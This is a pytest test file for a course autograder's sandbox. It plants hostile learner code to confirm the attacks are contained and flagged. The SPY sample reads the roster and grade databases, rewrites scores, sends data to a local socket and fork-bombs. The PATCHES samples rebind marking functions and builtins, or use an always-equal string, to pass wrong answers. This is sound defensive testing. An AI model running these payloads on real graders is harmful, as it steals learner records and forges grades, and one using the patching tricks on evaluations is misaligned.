"""Hostile submissions, graded for real: the sandbox contains them, the clean re-check sees through them.

Each test plants attacks in real learners' submissions of module 00, runs
``ethicskit grade`` (real nbgrader, real kernels in bubblewrap), then checks
that the attack was contained or flagged and every other learner's grade is
as before.
"""

from __future__ import annotations

import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time

import nbformat
import pytest

from test_course_grade import MODULE, _cli, _gradebook_rows, course, template  # noqa: F401 - fixtures

from ethicskit.course.grading.answer_cells import literal_answers, patching_findings
from ethicskit.course.grading.grade import NO_SANDBOX
from ethicskit.course.grading.recheck import answer_source
from ethicskit.course.grading.sandbox import sandbox_problem

pytestmark = pytest.mark.skipif(bool(sandbox_problem()) and not os.environ.get("CI"),
                                reason=sandbox_problem() or "sandbox ready")


def _submission(course, lid):
    return course["root"] / "course-data" / "submitted" / lid / MODULE / f"{MODULE}.ipynb"


def _plant(course, lid, answers: dict[str, str]) -> None:
    from ethicskit.course.authoring.scratch import with_answers

    path = _submission(course, lid)
    nbformat.write(with_answers(nbformat.read(path, as_version=4), answers), path)


def _scores(root) -> dict[str, float]:
    """learner -> total score as every reader computes it (manual_score wins over auto_score)."""
    db = sqlite3.connect(root / "course-data" / "gradebook.db")
    rows = db.execute("""SELECT sa.student_id, SUM(COALESCE(g.manual_score, g.auto_score, 0))
                         FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id
                         JOIN submitted_assignment sa ON sn.assignment_id = sa.id GROUP BY sa.student_id""")
    return dict(rows.fetchall())


def _flags(root) -> dict[str, str]:
    db = sqlite3.connect(root / "course-data" / "roster.db")
    return {lid: tampered for lid, tampered in db.execute("SELECT learner_id, tampered FROM gradings")}


def _sandbox_uid_processes(*, uids=None, args: str = "") -> list[str]:
    """Processes of sandbox uids (only ``uids`` if given; other sessions on this machine grade too)."""
    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout
    rows = [ln for ln in out.splitlines() if ln.split() and int(ln.split()[0]) >= 200_000 and args in ln]
    return [ln for ln in rows if uids is None or int(ln.split()[0]) in uids]


def test_literal_answers_are_read_without_running_the_cell():
    assert literal_answers("q = ('a', 1)\nr = __import__('os').system('x')") == ({"q": ("a", 1)}, ["r"])
    assert answer_source("q = 3", {}) == ("q = 3", [])


def test_the_static_scan_names_each_way_to_patch_the_checks():
    found = patching_findings(
        "import builtins\nbuiltins.len = max\nabs = lambda x: 0\nimport hashlib\nhashlib.sha256 = None\n"
        "import pandas as pd\npd.DataFrame.__eq__ = None\nimport ethicskit.data\nethicskit.data.load = None\n"
        "load = None\nsetattr(pd, 'x', 1)", protected={"load"}, label="q1")
    assert found == ["q1: imports `builtins`", "q1: assigns `builtins.len`", "q1: assigns `hashlib.sha256`",
                     "q1: assigns `pd.DataFrame.__eq__`", "q1: assigns `ethicskit.data.load`", "q1: calls `setattr()`",
                     "q1: rebinds the builtin `abs`", "q1: redefines `load`, which the setup or test cells use"]


SPY = """
import glob, os, sqlite3
seen = []
for pattern in ["{data}/roster.db", "{data}/gradebook.db", "{data}/submitted/*/*/*.ipynb", "{root}/solutions/*/*.ipynb"]:
    for path in glob.glob(pattern):
        seen.append(path)
        print(open(path, "rb").read()[:2000])
for db in ["{data}/gradebook.db", "{data}/roster.db"]:
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 99")
        con.execute("UPDATE gradings SET tampered = ''")
        con.commit()
        print("WROTE", db)
    except Exception as exc:
        print("no write", db, exc)
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    print("NETWORK REACHED")
except OSError as exc:
    print("no network", exc)
import subprocess
subprocess.Popen(["sleep", "1000"])
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            import time
            time.sleep(3)
            os._exit(0)
        children += 1
except OSError as exc:
    stopped = f"fork stopped after {{children}}: {{exc}}"
for _ in range(children):
    os.wait()
print(stopped)
print("x" * 200_000_000)
q1_lens = "c"
"""


@pytest.mark.slow
def test_hostile_code_sees_no_records_reaches_no_network_leaves_no_process_and_is_capped(course):
    from ethicskit.course import feedback, grade

    root, ids = course["root"], course["ids"]
    hits = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)

    def accept():
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and not hits:
            try:
                hits.append(server.accept())
            except OSError:
                pass

    threading.Thread(target=accept, daemon=True).start()
    spy = SPY.format(data=root / "course-data", root=root, port=server.getsockname()[1])
    _plant(course, ids[0], {"00-q1-lens-answer": spy})
    before_roster = (root / "course-data" / "roster.db").read_bytes()
    run = grade(["00"], workers=2)
    assert not run.failed, [o.error for o in run.failed]
    assert not hits, "learner code reached a TCP server on the grader's 127.0.0.1"
    scores = _scores(root)
    full = scores[ids[1]]
    assert full > 1 and all(scores[lid] == full for lid in ids[1:]), "every other learner's grade as if no attack"
    # the 200 MB print sometimes garbles its kernel's messages: then that one cell is killed and scores 0
    assert scores[ids[0]] in (full - 1, full), "the spy's attacks gained nothing; the rest of its notebook counts"
    graded = root / "course-data" / "autograded" / ids[0] / MODULE / f"{MODULE}.ipynb"
    assert graded.stat().st_size < 3_000_000, "a 200 MB print is capped"
    text = graded.read_text()
    assert "[output cut" in text and "fork stopped after" in text and "WROTE /" not in text and "NETWORK REACHED\\n" not in text
    names = [p["name"] for p in __import__("ethicskit.course", fromlist=["list_roster"]).list_roster()]
    assert not any(n in text for n in names) and "@corp.com" not in text
    assert not _sandbox_uid_processes(args="sleep 1000"), "the background process is gone"
    feedback(["00"], release=False)
    html = (root / "course-data" / "feedback" / ids[0] / MODULE / f"{MODULE}.html").read_text()
    assert html.count("@corp.com") == 0 and not any(n in html for n in names)
    assert len(html) < 5_000_000
    assert (root / "course-data" / "roster.db").read_bytes() != b"" and before_roster  # store still opens
    assert _flags(root)[ids[0]] == ""  # no tamper flag was erased or forged: the spy had nothing to patch


PATCHES = {
    # every answer is wrong; each cell patches what its checks use: the kit's marking functions, builtins
    "00-q1-lens-answer": ("q1_lens = 'a'\nimport ethicskit.answers\n"
                          "ethicskit.answers.mark_choice = lambda *args, **kwargs: None"),
    "00-q2-check-answer": ("q2_check = 'b'\nimport sys\n"
                           "setattr(sys.modules['ethicskit.answers'], 'mark_choice', lambda *a, **k: None)"),
    "00-q3-emails-answer": ("q3_emails = 7\nimport builtins, ethicskit.answers as answers\n"
                            "answers.mark_number = lambda *a, **k: None\nabs = lambda x: 0"),
    "00-q4-outcome-answer": ("class _Yes(str):\n    def __eq__(self, other): return True\n"
                             "    __hash__ = str.__hash__\n    def strip(self): return self\n"
                             "    def lower(self): return self\nq4_outcome = _Yes('stop')"),
}


@pytest.mark.slow
def test_answer_cells_that_patch_the_checks_earn_nothing_and_are_flagged(course):
    from ethicskit.course import build_report, grade

    root, ids = course["root"], course["ids"]
    _plant(course, ids[1], PATCHES)
    _plant(course, ids[4], WRONG)  # the same wrong answers, no patches: what they earn otherwise
    run = grade(["00"], workers=2)
    assert not run.failed, [o.error for o in run.failed]
    scores = _scores(root)
    assert scores[ids[1]] == scores[ids[4]] < scores[ids[0]], "the patches earn nothing beyond the wrong answers"
    assert scores[ids[0]] == scores[ids[2]] == scores[ids[3]]
    flag = _flags(root)[ids[1]]
    for grade_id in ("00-q1-lens", "00-q2-check", "00-q3-emails"):
        assert f"answer cell changed the checks: {grade_id} " in flag, flag
    assert "assigns `ethicskit.answers.mark_choice`" in flag and "calls `setattr()`" in flag
    assert "assigns `answers.mark_number`" in flag and "rebinds the builtin `abs`" in flag
    assert "imports `builtins`" in flag
    row = build_report().matrix.set_index("learner_id").loc[ids[1]]
    assert row["score"] == 0.0 and "answer cell changed the checks" in row["tampered"]

WRONG = {"00-q1-lens-answer": "q1_lens = 'a'", "00-q2-check-answer": "q2_check = 'b'",
         "00-q3-emails-answer": "q3_emails = 7", "00-q4-outcome-answer": "q4_outcome = 'stop'"}

STUCK = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
"""


@pytest.mark.slow
def test_a_cell_that_ignores_interruption_is_killed_and_the_rest_is_graded(course):
    from ethicskit.course import grade

    root, ids = course["root"], course["ids"]
    _plant(course, ids[2], {"00-q2-check-answer": STUCK})
    run = grade(["00"], workers=2, timeout=5)
    assert not run.failed, [o.error for o in run.failed]
    scores = _scores(root)
    assert scores[ids[2]] == scores[ids[0]] - 1, "q2 scores 0; q1, q3 and q4 (after it) keep their points"
    outcome = next(o for o in run.graded if o.learner_id == ids[2])
    assert outcome.timed_out == [f"{MODULE}.ipynb: 00-q2-check-answer"]
    assert "CellKilledError" in (root / "course-data" / "autograded" / ids[2] / MODULE / f"{MODULE}.ipynb").read_text()


@pytest.mark.slow
def test_a_renamed_grade_id_fails_that_submission_with_its_reason_and_a_regrade_path(course):
    from ethicskit.course import build_report

    root, ids = course["root"], course["ids"]
    path = _submission(course, ids[3])
    nb = nbformat.read(path, as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "00-q1-lens")
    cell.metadata["nbgrader"]["grade_id"] = "00-q1-renamed"
    nbformat.write(nb, path)
    proc = _cli("grade", "00", "--workers", "2", env=course["env"])
    out, _ = proc.communicate(timeout=600)
    assert proc.returncode == 1, out
    assert "'00-q1-renamed' is not in the released notebook" in out and "ethicskit grade 00" in out
    assert "traceback" not in out.lower()
    row = build_report().matrix.set_index("learner_id").loc[ids[3]]
    assert row["status"] == "grading failed" and "00-q1-renamed" in row["failure"]
    scores = _scores(root)
    assert scores.get(ids[3], 0) == 0, "nothing graded for the failed submission"
    assert len({scores[lid] for lid in ids if lid != ids[3]}) == 1, "the others are graded as usual"


def test_grading_refuses_to_run_without_the_sandbox_unless_asked(course, monkeypatch):
    from ethicskit.course import grade

    monkeypatch.setenv("PATH", "/nonexistent")  # no bwrap, prlimit or setpriv on PATH
    with pytest.raises(ValueError) as info:
        grade(["00"], workers=1)
    assert str(info.value) == NO_SANDBOX.format(problem=sandbox_problem()) and "bubblewrap" in sandbox_problem()


@pytest.mark.slow
def test_kill_9_of_the_parent_alone_takes_the_workers_down_and_a_rerun_finishes(course):
    root = course["root"]
    autograded = root / "course-data" / "autograded"
    proc = _cli("grade", "--workers", "2", env=course["env"])
    deadline = time.monotonic() + 180
    while not (autograded.is_dir() and any(p.name.startswith("ek") for p in autograded.iterdir())):
        assert proc.poll() is None and time.monotonic() < deadline, "grading ended before it could be killed"
        time.sleep(0.1)
    workers = subprocess.run(["pgrep", "-P", str(proc.pid)], capture_output=True, text=True).stdout.split()
    assert workers
    os.kill(proc.pid, signal.SIGKILL)  # the parent only, as `kill -9 PID` does
    proc.wait()
    deadline = time.monotonic() + 20
    while any(os.path.exists(f"/proc/{w}") for w in workers) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not [w for w in workers if os.path.exists(f"/proc/{w}")], "workers outlived a kill -9 of the parent"
    assert not _sandbox_uid_processes(uids={200_000 + int(w) for w in workers}), "kernels outlived their worker"
    rerun = _cli("grade", "--workers", "2", env=course["env"])
    out, _ = rerun.communicate(timeout=600)
    assert rerun.returncode == 0, out
    scores = _scores(root)
    assert _gradebook_rows(root)[0] == 5 and len(scores) == 5 and len(set(scores.values())) == 1, scores
    assert sorted(p.parent.name for p in autograded.glob(f"ek*/{MODULE}")) == sorted(course["ids"])
